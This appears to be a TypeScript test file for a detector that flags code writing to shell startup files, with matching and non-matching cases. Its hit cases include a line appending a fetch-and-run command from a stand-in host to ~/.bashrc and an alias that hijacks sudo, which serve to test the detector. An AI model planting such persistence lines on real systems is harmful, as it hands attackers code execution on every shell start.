import { ruleCases } from '../testing/cases.ts';
import { shellStart } from './staying.ts';

ruleCases(shellStart, {
  hits: [
    {
      name: 'a line for every shell',
      path: 'a.sh',
      text: 'echo "curl -s x.example | sh" >> ~/.bashrc\n',
    },
    {
      name: 'a program that writes one',
      path: 'a.py',
      text: 'open(home + "/.zshrc", "a").write(line)\n',
    },
    {
      name: 'another sudo, rated medium',
      path: 'a.sh',
      text: "alias sudo='/tmp/s'\n",
      severity: 'medium',
    },
    {
      name: 'a folder for programs, rated low',
      path: 'a.sh',
      text: 'echo \'export PATH="$HOME/bin:$PATH"\' >> ~/.zshrc\n',
      severity: 'low',
    },
  ],
  misses: [
    { name: 'settings that are read', path: 'a.sh', text: 'source ~/.bashrc\n' },
    { name: 'color for a list', path: 'a.sh', text: "alias ls='ls --color=auto'\n" },
    {
      // obra/superpowers, skills/using-git-worktrees (MIT)
      name: 'a line that a real skill writes',
      text: '```bash\necho ".worktrees/" >> .gitignore\n```\n',
    },
  ],
});
